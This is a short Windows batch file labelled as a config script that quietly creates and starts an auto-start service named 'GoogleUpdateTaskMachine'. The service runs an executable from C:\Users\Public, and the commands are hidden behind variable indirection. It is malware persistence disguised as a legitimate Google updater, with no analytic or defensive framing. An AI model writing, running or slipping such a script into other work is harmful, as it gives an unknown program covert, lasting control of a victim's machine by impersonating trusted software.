REM config 6101 v0
@echo off
set "vlay=sc create GoogleUpdateTaskMachine binPath= "cmd.exe /c C:\Users\Public\svc.exe" start= auto"
call %vlay%
@echo off
set "nyer=sc start GoogleUpdateTaskMachine"
call %nyer%
